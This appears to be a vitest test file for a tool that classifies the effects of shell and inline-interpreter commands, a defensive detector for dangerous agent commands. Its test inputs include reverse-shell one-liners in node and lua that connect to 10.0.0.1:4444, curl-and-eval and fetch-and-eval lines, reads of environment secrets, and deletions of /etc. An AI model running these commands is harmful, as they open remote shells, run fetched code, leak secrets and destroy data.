import { describe, expect, it } from "vitest";
import { effectLines, programOf, understandCommand } from "../testing.ts";

const PROGRAM = programOf(`
  command rm { flags { -r -f } operands { paths: path* } delete paths with recursive = -r }
  command sed { flags { -n -e=word } operands { program: word files: path* } copy files to stdout execute program as sed }
  command awk { flags { -F=word } operands { program: word files: path* } copy files to stdout execute program as awk }
  command node { flags { -e=word! } operands { args: rest? } execute -e as javascript }
  command perl { flags { -e=word! -n -l=number? -0=number? } operands { args: rest? } execute -e as perl }
  command Rscript { flags { -e=word! } operands { args: rest? } execute -e as r }
  command python { flags { -c=word! } operands { args: rest? } execute -c as python }
  command php { flags { -r=word! } operands { args: rest? } execute -r as php }
  command ruby { flags { -e=word! } operands { args: rest? } execute -e as ruby }
  command curl { flags { -s -o=path } operands { urls: url* } copy urls to stdout }
  command kill { flags { -s=signal } operands { targets: word* } signal targets with name = -s }
  command mysql { flags { -e=word } operands { database: word? } execute -e as sql }
  command duckdb { flags { -c=word } operands { database: word? } execute -c as sql }
  command lua { flags { -e=word! } operands { args: rest? } execute -e as lua }
  command sh { flags { -c=word } operands { script: path? args: rest? } execute stdin as shell when not script }
`);

function effects(command: string): readonly string[] {
  return effectLines(understandCommand(PROGRAM, command));
}

describe("code of another language that starts programs", () => {
  it.each([
    ["sed '1e id' f", "sed"],
    ["awk 'BEGIN{system(\"id\")}'", "awk"],
    ["awk 'BEGIN{\"id\" | getline x}'", "awk"],
    ["python -c 'import os; os.system(\"id\")'", "python"],
    ["python -c 'eval(\"1\")'", "python"],
  ])("%s executes", (command, language) => expect(effects(command)).toContain(`execute source=literal language=${language}`));

  it.each([
    ['python -c \'import subprocess; subprocess.call(["rm", "x"])\'', "delete /repo/app/x"],
    ["python -c 'from os import system as run; run(\"rm x\")'", "delete /repo/app/x"],
    ["node -e 'await Bun.$`rm x`'", "delete /repo/app/x"],
    ["python -c 'from os import *; system(\"rm x\")'", "delete /repo/app/x"],
    ["python -c 'y = !rm x'", "delete /repo/app/x"],
    ["python -c '%%bash\nrm x'", "delete /repo/app/x"],
    ["python -c '%%script bash\nrm x'", "delete /repo/app/x"],
    ["python -c 'y = %sx rm x'", "delete /repo/app/x"],
    ["python -c '%rm x'", "delete /repo/app/x"],
    ["python -c 'x = 1\n%rm x'", "delete /repo/app/x"],
    ['python -c \'import os; os.system("{} {f}".format("rm", f="x"))\'', "delete /repo/app/x"],
    ['python -c \'import os; os.system("xm".replace("x", "r"))\'', "execute source=‹any› language=shell"],
    ["python -c 'import ctypes; ctypes.CDLL(None).system(b\"rm x\")'", "delete /repo/app/x"],
    ['python -c \'import sh; sh.rm("-r", "x")\'', "delete /repo/app/x tree recursive"],
    ['node -e \'(await import("child_process")).execSync("rm x")\'', "delete /repo/app/x"],
    ['node -e \'new Function("r", "r(`child_process`).execSync(`rm x`)")(require)\'', "execute source=literal language=javascript"],
    ['node -e \'require("shelljs").rm("-r", "x")\'', "delete /repo/app/x tree recursive"],
    ['perl -e \'system { "rm" } "rm", "x"\'', "delete /repo/app/x"],
    ["perl -e 'unlink </etc/*>'", "delete /etc/*"],
    ["perl -e 'find(sub { unlink }, q(.))'", "delete ‹any›"],
    ['perl -e \'&{"CORE::system"}("rm x")\'', "execute source=‹any› language=perl"],
    ["perl -e '*s = \\&CORE::system; s(\"rm x\")'", "execute source=‹any› language=perl"],
    ['php -r \'(new ReflectionFunction("system"))->invoke("rm x");\'', "execute source=‹any› language=php"],
    ["node -e 'const { $ } = require(\"zx\"); await $`rm x`'", "delete /repo/app/x"],
    ["node -e 'fetch(\"http://h\").then((r) => r.text()).then(eval)'", "execute source=network language=javascript"],
    ["python -c 'import ctypes; ctypes.CDLL(\"x\")'", "execute source=literal language=python"],
    ["python -c '().__class__'", "execute source=literal language=python"],
    ["node -e 'require(\"./x\")'", "execute source=literal language=javascript"],
    ["perl -e 'require Foo; print 1'", "execute source=literal language=perl"],
    ['perl -e \'open(my $p, "-|", "rm", "x")\'', "delete /repo/app/x"],
    ['perl -e \'open my $p, "|-", "sh"; print $p "rm x"\'', "execute source=‹any› language=shell"],
    ['perl -e \'open F, "|sh"; print F "rm x"\'', "execute source=‹any› language=shell"],
  ])("%s has the effect %s", (command, line) => expect(effects(command)).toContain(line));

  it.each([
    "python -c 'import json, sys; print(json.load(sys.stdin)[0])'",
    "python -c 'from datetime import date; print(date.today())'",
    "python -c 'import os as o; print(o.getcwd(), o.environ[\"HOME\"])'",
    "python -c 'from json import *; print(dumps(1))'",
    "python -c 'import sys; print(sys.path, sys.version)'",
    "python -c 'import csv, glob, sys; print(list(csv.DictReader(sys.stdin)), glob.glob(\"*.py\"))'",
    "python -c 'import yaml, sys; print(yaml.safe_load(sys.stdin))'",
    "python -c 'import os; print(len(os.listdir(\".\")), max(map(len, os.listdir())))'",
    'python -c \'from pathlib import Path; print([p.name.replace(".", "/") for p in Path().rglob("*.py")])\'',
    "perl -e 'print uc($x), \"a\\n\"'",
  ])("%s computes only", (command) => expect(effects(command)).toEqual([]));

  it.each([
    'BEGIN { print /"/; system("rm x"); print /"/ }',
    'BEGIN { y = z++ / 2; system("rm x"); y = "/" }',
    'BEGIN { if (1) /"/; system("rm x"); if (1) /"/ }',
    '$1 ~ /[/"]/ { system("rm x") } /"/',
  ])("awk '%s' deletes", (program) => expect(effects(`awk '${program}' f`)).toContain("delete /repo/app/x"));

  it.each([
    "php -r 'file_get_contents(\"https://h.example/?\" . urlencode($x));'",
    'ruby -e \'require "open-uri"; open("https://h.example/#{x}")\'',
  ])("%s talks to the host of an address that is known in part", (command) =>
    expect(effects(command).join(" ")).toContain("fetch h.example"),
  );

  it.each(["perl -e 'eval `curl -s https://h.example/a`'", "ruby -e 'eval(`curl -s https://h.example/a`)'", "ruby -e 'eval `x`'"])(
    "%s executes what a command prints",
    (command) => expect(effects(command).filter((line) => line.startsWith("execute")).length).toBeGreaterThan(1),
  );

  it.each([
    "node -e \"var n=require('net'),c=require('child_process');var s=new n.Socket();s.connect(4444,'10.0.0.1',()=>c.spawn('sh'))\"",
    "node -e \"var net=require('net');net.connect(4444,'10.0.0.1').pipe(require('child_process').spawn('sh').stdin)\"",
    "node -e \"var n=require('net'),k=n.connect(4444,'10.0.0.1',()=>require('child_process').spawn('sh'))\"",
    "lua -e \"t=require('socket').tcp();t:connect('10.0.0.1','4444');os.execute('sh -i')\"",
  ])("%s gives a shell over a connection", (command) => expect(effects(command).join(" ")).toContain("shell over a connection"));

  it.each(["node -e \"require('net').connect(80,'localhost')\"", "lua -e \"os.execute('ls')\""])("%s gives none", (command) =>
    expect(effects(command).join(" ")).not.toContain("shell over a connection"),
  );

  it.each([
    "Rscript -e 'unknown(x, \"/b/c\")'",
    "python -c 'import pandas; pandas.read_csv(\"/b/c\")'",
    'node -e \'require("y")("/b/c")\'',
  ])("%s names a path", (command) => expect(effects(command)).toContain("mention /b/c"));

  it.each([
    "import random; random._os.getcwd()",
    "from random import _os",
    'import operator, os; operator.methodcaller("kill", 1, 9)(os)',
    "import os as o; o.kill(1, 9)",
    'f = open; f("x", "w")',
    "list(map(open, names, modes))",
    'import sys; sys.path.insert(0, "/tmp/x"); import json',
    'import os; os.environ["PATH"] = "/tmp/x"',
    "import os; print(os.environ)",
    'import os; print(os.getenv("API_TOKEN"))',
    "import typing; typing.get_type_hints(f)",
    'import site; site.addsitedir("/tmp/x")',
    "import shlex; shlex.os.getcwd()",
    "import sys; sys._getframe().f_back",
    "if x: import subprocess",
    "import json, ctypes",
    'from pathlib import Path; Path("a").rename("b")',
    'from pathlib import Path; f = Path.open; f(Path("a"), "w")',
    'import pathlib; pathlib.Path("a").replace(x)',
    'import glob; print([open(f).read() for f in glob.glob(".*")])',
    "import os; print([open(f).read() for f in os.listdir()])",
    'from pathlib import Path; print([f.read_text() for f in Path(".").iterdir()])',
    'from pathlib import Path; print([(d / "settings").read_text() for d in Path().iterdir()])',
    "import yaml, sys; yaml.load(sys.stdin, yaml.Loader)",
  ])("python -c '%s' does more than compute", (code) =>
    expect(effects(`python -c '${code}'`)).toContain("execute source=literal language=python"),
  );

  it.each([
    [".sh rm x", "delete /repo/app/x"],
    [".sys rm x", "delete /repo/app/x"],
    [".rea x.sql", "read /repo/app/x.sql"],
    [".ou x", "write /repo/app/x"],
    [".lo ./x", "execute source=generated language=shell"],
    ['select edit(a, "vi") from t', "execute source=generated language=shell"],
  ])("mysql -e '%s' has the effect %s, an order's beginning or a function of the client", (code, line) =>
    expect(effects(`mysql -e '${code}'`)).toContain(line),
  );

  it.each(["\\pset format csv", "\\p"])("mysql -e '%s' runs nothing: only \\P names a pager", (code) =>
    expect(effects(`mysql -e '${code}'`)).toEqual([]),
  );

  it.each([
    ['from "a.csv"', []],
    ["from \\'a.csv\\'", ["read /repo/app/a.csv"]],
  ])("duckdb reads the file that is named: %s", (code, lines) =>
    expect(effects(`duckdb -c $'${code}'`).filter((line) => !line.startsWith("query"))).toEqual(lines),
  );

  it.each(["from \\'https://h.example/a.csv\\'", "select * from read_parquet(\\'s3://h.example/a.parquet\\')"])(
    "duckdb asks for an address: %s",
    (code) => expect(effects(`duckdb -c $'${code}'`).join(" ")).toContain("fetch h.example"),
  );

  it.each(["source a.sql; drop table t", "system ls; drop table t", "tee log.txt; select 1; drop table t"])(
    "mysql -e '%s' drops what is named behind the order to the client",
    (code) => expect(effects(`mysql -e '${code}'`).join(" ")).toContain("name=t action=drop kind=table"),
  );

  it.each([
    'python -c \'import sqlite3; sqlite3.connect("x").execute("drop table t")\'',
    'python -c \'import psycopg2; cur = psycopg2.connect("").cursor(); cur.execute("drop table t")\'',
    'node -e \'new (require("pg").Client)().query("drop table t")\'',
    "php -r 'mysqli_query($c, \"drop table t\");'",
    "mysql -e '\\connect prod\ndrop table t'",
    "mysql -e '\\c prod \\\\ drop table t'",
  ])("%s drops a table", (command) => expect(effects(command).join(" ")).toContain("name=t action=drop kind=table"));

  it.each([
    ["python -c 'import os; os.kill(1, 9)'", "signal name=KILL target=1"],
    ["node -e 'process.kill(1, \"SIGKILL\")'", "signal name=KILL target=1"],
    ["ruby -e 'Process.kill(9, 1)'", "signal name=KILL target=1"],
    ["perl -e 'kill 9, 1'", "signal name=KILL target=1"],
    // A number that may follow a letter ends where its digits do.
    ["perl -lne 'unlink \"/b\"'", "delete /b"],
    ["perl -0777ne 'unlink \"/b\"'", "delete /b"],
    ["perl -e 'kill 9, -1'", "signal name=KILL target=-1"],
    ["python -c 'import os; os.kill(-1, 9)'", "signal name=KILL target=-1"],
    ['python -c \'import os; os.execl("/bin/rm", "x", "-r", "/b")\'', "delete /b tree recursive"],
    ['python -c \'import os; os.execv("/bin/rm", ["x", "-r", "/b"])\'', "delete /b tree recursive"],
    ['python -c \'import os; os.execvp("rm", ["rm", "-r", "/b"])\'', "delete /b tree recursive"],
    ['python -c \'import os; os.spawnl(os.P_WAIT, "/bin/rm", "x", "-r", "/b")\'', "delete /b tree recursive"],
    ['python -c \'import os; os.spawnvp(os.P_WAIT, "rm", ["x", "-r", "/b"])\'', "delete /b tree recursive"],
    ['perl -e \'system(join(" ", "rm", "-r", "/b"))\'', "delete /b tree recursive"],
    ["perl -e 'chmod 0777, \"/b\"'", "change /b grants=[u+r u+w u+x g+r g+w g+x o+r o+w o+x]"],
    ["node -e \"require('shelljs').rm('-r', '/b')\"", "delete /b tree recursive"],
    ["ruby -e 'Pathname(\"/etc\").rmtree'", "delete /etc tree recursive"],
    ['python -c \'import boto3; boto3.client("s3").delete_bucket(Bucket="x")\'', "call tool=delete by a library"],
    ["node -e 'new (require(\"ioredis\"))().flushall()'", "call tool=delete by a library"],
  ])("%s has the effect %s", (command, line) => expect(effects(command)).toContain(line));

  it.each([
    "python -c 'import boto3; print(boto3.client(\"s3\").list_buckets())'",
    "python -c 'class A: pass; A().delete_all()'",
    "python -c 'import os; print(os.getpid())'",
  ])("%s takes nothing away", (command) => expect(effects(command).join(" ")).not.toMatch(/by a library|signal/));

  it.each(["sed -n 1,3p f", "awk '{print $1}' f", "python -c 'print(1)'"])("%s executes nothing else", (command) =>
    expect(effects(command).filter((line) => line.startsWith("execute"))).toEqual([]),
  );
});
